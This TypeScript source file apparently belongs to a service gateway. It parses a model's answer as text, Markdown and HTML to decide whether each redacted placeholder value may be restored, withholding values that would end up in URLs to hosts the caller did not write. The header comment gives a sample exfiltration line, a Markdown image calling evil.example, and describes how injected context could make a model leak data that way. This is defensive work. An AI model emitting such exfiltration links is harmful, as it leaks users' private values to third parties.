// Decides by its position in a text whether a placeholder may be restored, as the gateway of the service does.
//
// A model, or a text injected into its context, can exfiltrate a value: a page that shows the answer fetches
// `![x](https://evil.example/?q=…)`. So a placeholder inside a URL is restored only if the caller wrote every host of the
// URL. In plain text it is always restored.
//
// Two automata read the text once, character by character, with the values instead of the placeholders: one parses words,
// bare URLs and the destinations of Markdown links, the other one HTML tags. The stricter verdict holds. Both read only the
// text, so a verdict does not depend on how it is cut. At most the current URL is undecided.

import { hostAtEnd, hostOf, isHostLetter, isNamedHost, type Hosts } from "./hosts.js";

/** Longest URL, word or attribute that is read, in UTF-16 units. Placeholders after that are withheld until it ends. */
const MAX_TARGET = 2_048;
/** Longest name of an HTML tag or attribute. */
const MAX_NAME = 32;

/** How a value is written, from the mildest to the strictest: unencoded, as HTML, as a whole URL, in a URL; or not at all. */
export type Verdict = "plain" | "html" | "target" | "url" | "withhold";

const ORDER: readonly Verdict[] = ["plain", "html", "target", "url", "withhold"];

/** Characters that end the authority of a URL. */
const END_OF_AUTHORITY = /[/\\?#]/;
/** Schemes of URLs without a host: their content is shown or run. */
const OPAQUE = /(?<![\p{L}\p{N}])(?:data|javascript|vbscript|blob|file|intent|view-source):/iu;
/** Schemes of URLs that address a person. */
const PERSONAL = /(?<![\p{L}\p{N}])(?:mailto|tel|sms|callto):/iu;
/** What may follow a URL without being part of it. */
const SIGNS = ".,;:!?)]}*_'`|”’»";

/** Reads the text of an answer and decides on its placeholders, in order. */
export class PlaceReader {
  readonly #words: Words;
  readonly #markup: Markup;

  constructor(hosts: Hosts) {
    this.#words = new Words(hosts);
    this.#markup = new Markup(hosts);
  }

  /** Reads more of the text. */
  text(text: string): void {
    for (const letter of text) {
      this.#words.letter(letter);
      this.#markup.letter(letter);
    }
  }

  /** Reads a placeholder with its value. */
  placeholder(value: string): void {
    this.#words.placeholder(value);
    this.#markup.placeholder(value);
  }

  /** Ends the text; every placeholder is then decided. */
  finish(): void {
    this.#words.end();
    this.#markup.end();
  }

  /** Returns the verdict on the next placeholder; undefined if it needs more text. */
  next(): Verdict | undefined {
    const [words, markup] = [this.#words.target.verdicts, this.#markup.target.verdicts];
    if (words[0] === undefined || markup[0] === undefined) return undefined;
    const verdicts = [words.shift(), markup.shift()] as Verdict[];
    return ORDER[Math.max(...verdicts.map((verdict) => ORDER.indexOf(verdict)))];
  }
}

/** A place in a target. */
interface Range {
  start: number;
  end: number;
}

/** A word, URL or attribute with the values instead of its placeholders. */
class Target {
  text = "";
  readonly verdicts: Verdict[] = [];
  #open: Range[] = [];
  #isTooLong = false;

  push(letter: string): void {
    if (this.text.length < MAX_TARGET) {
      this.text += letter;
      return;
    }
    this.#isTooLong = true;
    this.#close();
  }

  placeholder(value: string): void {
    if (this.#isTooLong || this.text.length + value.length > MAX_TARGET) {
      this.#isTooLong = true;
      this.#close();
      this.verdicts.push("withhold");
      return;
    }
    const start = this.text.length;
    this.text += value;
    this.#open.push({ start, end: this.text.length });
  }

  /** Sets the verdicts of the open placeholders for which `judge` returns one. */
  decide(judge: (text: string, range: Range) => Verdict | undefined): void {
    for (let range = this.#open[0]; range !== undefined; range = this.#open[0]) {
      const verdict = judge(this.text, range);
      if (verdict === undefined) return;
      this.#open.shift();
      this.verdicts.push(verdict);
    }
  }

  clear(): void {
    this.#close();
    this.text = "";
    this.#isTooLong = false;
  }

  #close(): void {
    for (const _ of this.#open) this.verdicts.push("withhold");
    this.#open = [];
  }
}

/** Parses words, bare URLs and Markdown. */
class Words {
  readonly target = new Target();
  readonly #hosts: Hosts;
  /** A word, the destination of a link, or that of a reference definition, which may be on the next line. */
  #part: "word" | "link" | "definition" = "word";
  /** Depth of the parentheses of a link. */
  #depth = 0;
  #hasBegun = false;
  /** The preceding character; empty at the start and after a placeholder. */
  #last = "";

  constructor(hosts: Hosts) {
    this.#hosts = hosts;
  }

  letter(letter: string): void {
    const last = this.#last;
    this.#last = letter;
    if (last === "]" && (letter === "(" || letter === ":")) {
      this.end();
      this.#part = letter === "(" ? "link" : "definition";
      this.#depth = 1;
      this.#hasBegun = false;
      return;
    }
    switch (this.#part) {
      case "word":
        return endsWord(letter) ? this.end() : this.#push(letter);
      case "link": {
        const isEscaped = last === "\\";
        if (letter === "\n" && last === "\n") return this.end();
        if (letter === "(" && !isEscaped) this.#depth += 1;
        if (letter === ")" && !isEscaped) {
          this.#depth -= 1;
          if (this.#depth === 0) return this.end();
        }
        return this.#push(letter);
      }
      case "definition":
        if (!this.#hasBegun && /\s/.test(letter)) {
          if (letter === "\n" && last === "\n") this.end();
          return;
        }
        if (this.#hasBegun && endsWord(letter)) return this.end();
        this.#hasBegun = true;
        return this.#push(letter);
    }
  }

  placeholder(value: string): void {
    this.#last = "";
    this.#hasBegun = true;
    this.target.placeholder(value);
    this.#decide(false);
  }

  end(): void {
    this.#decide(true);
    this.target.clear();
    this.#part = "word";
  }

  #push(letter: string): void {
    this.target.push(letter);
    if (isDecisive(letter)) this.#decide(false);
  }

  #decide(ends: boolean): void {
    this.target.decide((text, range) => {
      if (this.#part === "word") return inWord(text, range, this.#hosts, ends);
      // `[10:32]: [[NAME_1]]`
      if (this.#part === "definition" && !/[:/\\&]/.test(text)) return ends ? "plain" : undefined;
      return inDestination(text, range, this.#hosts, ends);
    });
  }
}

/** Whether a character may decide on a placeholder before it: letters of a host and its port only continue it. */
function isDecisive(letter: string): boolean {
  return letter !== ":" && !isHostLetter(letter);
}

/** Whether a character ends a word, in all programs that detect URLs. */
function endsWord(letter: string): boolean {
  return /[\s\p{Cc}<>"]/u.test(letter);
}

/** Parses HTML tags and their attributes. */
class Markup {
  readonly target = new Target();
  readonly #hosts: Hosts;
  /** `code` is the text of a script or a style. */
  #state: "text" | "opening" | "tag name" | "tag" | "before value" | "value" | "code" = "text";
  #quote = "";
  #tag = "";
  #attribute = "";
  /** A space follows the name of the attribute. */
  #hasGap = false;
  /** The tag follows a backtick: it is code in a Markdown text. */
  #isQuoted = false;
  #last = "";

  constructor(hosts: Hosts) {
    this.#hosts = hosts;
  }

  letter(letter: string): void {
    const last = this.#last;
    this.#last = letter;
    switch (this.#state) {
      case "text":
        return this.#text(letter, last);
      case "opening":
        if (!/[a-z/]/i.test(letter)) return this.#text(letter, last);
        this.#tag = letter.toLowerCase();
        this.#state = "tag name";
        return;
      case "tag name":
        if (letter === ">") return this.#leaveTag();
        if (/\s/.test(letter) || (letter === "/" && this.#tag !== "/")) {
          this.#state = "tag";
          this.#attribute = "";
        } else if (/[a-z0-9-]/i.test(letter)) {
          if (this.#tag.length < MAX_NAME) this.#tag += letter.toLowerCase();
        } else {
          // `<https://…>`, `<jan@…>`
          this.#text(letter, last);
        }
        return;
      case "tag":
        if (letter === ">") return this.#leaveTag();
        if (letter === "<") this.#state = "opening";
        else if (letter === "=") this.#state = "before value";
        else if (/[\s/]/.test(letter)) this.#hasGap = true;
        else {
          if (this.#hasGap) this.#attribute = "";
          this.#hasGap = false;
          if (this.#attribute.length < MAX_NAME) this.#attribute += letter.toLowerCase();
        }
        return;
      case "before value":
        if (letter === ">") return this.#leaveTag();
        if (/\s/.test(letter)) return;
        this.#state = "value";
        this.#quote = letter === '"' || letter === "'" ? letter : "";
        if (this.#quote === "") this.target.push(letter);
        return;
      case "value": {
        const ends = this.#quote === "" ? /[\s>]/.test(letter) : letter === this.#quote;
        if (!ends) {
          this.target.push(letter);
          if (isDecisive(letter)) this.#decide(false);
          return;
        }
        this.#decide(true);
        this.target.clear();
        this.#attribute = "";
        this.#state = "tag";
        if (letter === ">") this.#leaveTag();
        return;
      }
      case "code": {
        if (letter === "<") this.target.text = "";
        this.target.text += letter.toLowerCase();
        const ends = this.target.text === `</${this.#tag}`;
        if (ends || (this.#isQuoted && letter === "`")) {
          this.target.clear();
          this.#state = ends ? "tag" : "text";
          this.#tag = "";
        } else if (this.target.text.length > MAX_NAME) this.target.text = "";
      }
    }
  }

  placeholder(value: string): void {
    this.#last = "";
    switch (this.#state) {
      case "before value":
        this.#state = "value";
        this.#quote = "";
      // its value begins with the placeholder
      case "value":
        this.target.placeholder(value);
        return this.#decide(false);
      case "code":
        this.target.verdicts.push("withhold");
        return;
      case "opening":
      case "tag name":
        this.#state = "text";
        this.target.verdicts.push("plain");
        return;
      default:
        this.target.verdicts.push("plain");
    }
  }

  end(): void {
    if (this.#state === "value") this.#decide(true);
    this.target.clear();
    this.#state = "text";
  }

  #text(letter: string, last: string): void {
    this.#state = "text";
    if (letter === "<") {
      this.#isQuoted = last === "`";
      this.#state = "opening";
    }
  }

  #leaveTag(): void {
    this.#state = this.#tag === "script" || this.#tag === "style" ? "code" : "text";
    this.#attribute = "";
    this.#hasGap = false;
  }

  #decide(ends: boolean): void {
    const kind = kindOf(this.#attribute);
    this.target.decide((value, range) => {
      if (kind === "text") return "html";
      return kind === "url" ? inDestination(value, range, this.#hosts, ends) : "withhold";
    });
  }
}

/** What an attribute holds: visible or spoken text, a URL, or anything else, such as code and several URLs. */
function kindOf(attribute: string): "text" | "url" | "other" {
  if (/^(?:alt|title|label|placeholder|summary|abbr|aria-.*)$/.test(attribute)) return "text";
  return /^(?:href|src|action|formaction|poster|cite|background|data|longdesc|xlink:href)$/.test(attribute) ? "url" : "other";
}

/** Returns the verdict on a placeholder in a word; undefined if it needs more of the word. */
function inWord(word: string, range: Range, hosts: Hosts, ends: boolean): Verdict | undefined {
  const [before, behind] = [word.slice(0, range.start), word.slice(range.end)];
  if (OPAQUE.test(before)) return "withhold";
  const person = PERSONAL.exec(before);
  if (person !== null) return ofPerson(before.slice(person.index + person[0].length), behind, ends);
  const links = new Links(word, range, ends);
  if (links.mayGoOn) return undefined;
  if (!links.areAllowed(hosts)) return isWholeTarget(word, range) ? "target" : "withhold";
  if (links.path !== undefined && links.path <= range.start) return "url";
  return links.hosts.length === 0 ? "plain" : "target";
}

/** Returns the verdict on a placeholder in the destination of a link; undefined if it needs more of it. */
function inDestination(written: string, range: Range, hosts: Hosts, ends: boolean): Verdict | undefined {
  const behind = written.slice(range.end);
  const start = trimmed(decoded(written.slice(0, range.start)));
  if (start.startsWith("#")) return "url";
  const opaque = OPAQUE.exec(start);
  if (opaque !== null && opaque.index + opaque[0].length === start.indexOf(":") + 1) return "withhold";
  const person = PERSONAL.exec(start);
  if (person?.index === 0) return ofPerson(start.slice(person[0].length), behind.replace(/>+$/, ""), ends);
  const found = authorityOf(trimmed(decoded(written)));
  // a destination without a host, or the beginning of one
  if (found === undefined) return ends ? "withhold" : undefined;
  if (!found.isClosed && !ends) return undefined;
  const host = hostOf(found.authority.split(/[\s>]/)[0] ?? "");
  const links = new Links(written, range, ends);
  const isAllowed = host !== undefined && hosts.allow(host) && links.areAllowed(hosts);
  if (links.mayGoOn && isAllowed) return undefined;
  if (!isAllowed) return isWholeTarget(written, range) ? "target" : "withhold";
  return links.path !== undefined && links.path <= range.start ? "url" : "target";
}

function trimmed(destination: string): string {
  return destination.replace(/^[\s<]+/, "");
}

/** Splits off the authority of an absolute destination; undefined for a relative or incomplete one. */
function authorityOf(destination: string): { authority: string; isClosed: boolean } | undefined {
  const scheme = /^[a-z0-9+.-]*(?=[^a-z0-9+.-])/i.exec(destination)?.[0];
  if (scheme === undefined) return undefined;
  const rest = destination.slice(scheme.length);
  if (scheme !== "" && !rest.startsWith(":")) return undefined;
  const behind = scheme === "" ? destination : rest.slice(1);
  const slashes = /^[/\\\t\n\r]*/.exec(behind)?.[0].length ?? 0;
  if (slashes < (/^(?:https?|wss?|ftp)$/i.test(scheme) ? 1 : 2)) return undefined;
  const authority = behind.slice(slashes);
  const end = authority.search(END_OF_AUTHORITY);
  return { authority: end < 0 ? authority : authority.slice(0, end), isClosed: end >= 0 };
}

/** Returns the verdict on a placeholder in an address of a person: it must be one whole recipient. */
function ofPerson(before: string, behind: string, ends: boolean): Verdict | undefined {
  if (before.includes("?") || (before !== "" && !before.endsWith(","))) return "withhold";
  const rest = withoutSigns(behind, "start");
  if (/^[?,]/.test(behind) || (ends && rest === "")) return "target";
  return rest === "" && !ends ? undefined : "withhold";
}

/** Removes the signs that may follow a URL. */
function withoutSigns(text: string, side: "start" | "end"): string {
  let [from, to] = [0, text.length];
  if (side === "start") while (from < to && SIGNS.includes(text[from] ?? "")) from += 1;
  else while (to > from && SIGNS.includes(text[to - 1] ?? "")) to -= 1;
  return text.slice(from, to);
}

/** The hosts of the URLs in a word that contains a placeholder. */
class Links {
  /** Each host as written; undefined if it is invalid. */
  readonly hosts: (string | undefined)[] = [];
  /** The end of the first authority. */
  path: number | undefined;
  /** The word may become a URL, or its authority may continue. */
  mayGoOn = false;

  constructor(word: string, range: Range, ends: boolean) {
    for (let at = word.indexOf("//"); at >= 0; at = word.indexOf("//", at + 2)) {
      const before = word.slice(0, at);
      const scheme = before.endsWith(":") ? before.slice(0, -1).replace(/[a-z0-9+.-]+$/i, "").length : undefined;
      // a URL that begins after the placeholder
      if (range.end <= (scheme ?? at) || (range.end <= at && scheme !== undefined && scheme < range.end)) continue;
      this.#authority(word.slice(at + 2), before, ends);
      this.path ??= endOfAuthority(word, at + 2);
    }
    this.#bare(word, range, ends);
    // a URL may contain another one, as the target of a redirect
    if (word.includes("%")) {
      const whole = percentDecoded(word);
      for (let at = whole.indexOf("//"); at >= 0; at = whole.indexOf("//", at + 2)) this.#authority(whole.slice(at + 2), whole.slice(0, at), true);
    }
  }

  areAllowed(hosts: Hosts): boolean {
    return this.hosts.every((host) => host !== undefined && hosts.allow(host));
  }

  /** Reads the authority after two slashes. Without a scheme it must look like a host. */
  #authority(behind: string, before: string, ends: boolean): void {
    const rest = behind.replace(/^[/\\]+/, "");
    const end = rest.search(END_OF_AUTHORITY);
    const authority = end < 0 ? withoutSigns(rest, "end") : rest.slice(0, end);
    if (!before.endsWith(":") && !isNamedHost(authority)) return;
    if (end < 0 && !ends) this.mayGoOn = true;
    this.hosts.push(hostOf(authority));
  }

  /** Reads a host without a scheme: `www.example.com`, `example.com/path`. */
  #bare(word: string, range: Range, ends: boolean): void {
    const end = word.search(END_OF_AUTHORITY);
    const before = end < 0 ? word : word.slice(0, end);
    const host = hostAtEnd(before);
    const start = before.length - host.length;
    if (start >= range.end) return;
    if (end >= 0) {
      // `jan@example.com/+420 …` is not a URL
      const isMail = word[start - 1] === "@";
      if (isMail || !isNamedHost(host.split(":")[0] ?? "") || word.startsWith("//", end)) return;
      this.path ??= end;
      this.hosts.push(hostOf(host));
      return;
    }
    // the host may continue, or its path may follow
    if (!ends) this.mayGoOn = true;
    const name = host.replace(/^[_-]+/, "");
    if (ends && /^www\./i.test(name)) this.hosts.push(hostOf(name));
  }
}

function endOfAuthority(word: string, from: number): number | undefined {
  const slashes = /^[/\\]*/.exec(word.slice(from))?.[0].length ?? 0;
  const end = word.slice(from + slashes).search(END_OF_AUTHORITY);
  return end < 0 ? undefined : from + slashes + end;
}

/** Decodes the percent-encoding of a text. */
function percentDecoded(text: string): string {
  return text.replaceAll(/(?:%[0-9a-f]{2})+/gi, (bytes) => {
    const decoded = Uint8Array.from(bytes.match(/[0-9a-f]{2}/gi) ?? [], (hex) => Number.parseInt(hex, 16));
    return new TextDecoder().decode(decoded);
  });
}

/**
 * Whether a placeholder is the whole host of a URL, or all of it up to its path: then no third party receives the value.
 */
function isWholeTarget(text: string, range: Range): boolean {
  const [before, value] = [text.slice(0, range.start), text.slice(range.start, range.end)];
  const behind = text.slice(range.end).replace(/>+$/, "");
  const isClosed = /^[/\\?#:]/.test(behind) || withoutSigns(behind, "start") === "";
  const scheme = value.indexOf("://");
  if (scheme < 0) {
    const begins = before === "" || (before.endsWith("://") && before.split("//").length === 2);
    return begins && isClosed && isNamedHost(value);
  }
  const rest = value.slice(scheme + 3);
  const end = rest.search(END_OF_AUTHORITY);
  return /^[^\p{L}\p{N}/\\%]*$/u.test(before) && (end >= 0 || isClosed) && hostOf(end < 0 ? rest : rest.slice(0, end)) !== undefined;
}

/** The signs that URLs are made of, as entities of HTML. */
const ENTITIES: Readonly<Record<string, string>> = {
  amp: "&", lt: "<", gt: ">", quot: '"', apos: "'", nbsp: "\u{a0}", colon: ":", semi: ";", comma: ",", period: ".", sol: "/", bsol: "\\",
  quest: "?", num: "#", equals: "=", commat: "@", percnt: "%", lsqb: "[", lbrack: "[", rsqb: "]", rbrack: "]", lowbar: "_", Tab: "\t", NewLine: "\n",
};

/** Removes the escapes of Markdown and the entities of HTML from a destination. */
function decoded(written: string): string {
  const unescaped = written.replaceAll(/\\(?=[!-/:-@[\]^-`{-~])/g, "");
  return unescaped.replaceAll(/&(?:#x([0-9a-f]{1,8});?|#([0-9]{1,10});?|([a-z]{1,10});)/gi, (all, hex, decimal, name) => {
    if (name !== undefined) return ENTITIES[name] ?? all;
    const code = hex === undefined ? Number(decimal) : Number.parseInt(hex, 16);
    return code <= 0x10ffff && (code < 0xd800 || code > 0xdfff) ? String.fromCodePoint(code) : all;
  });
}
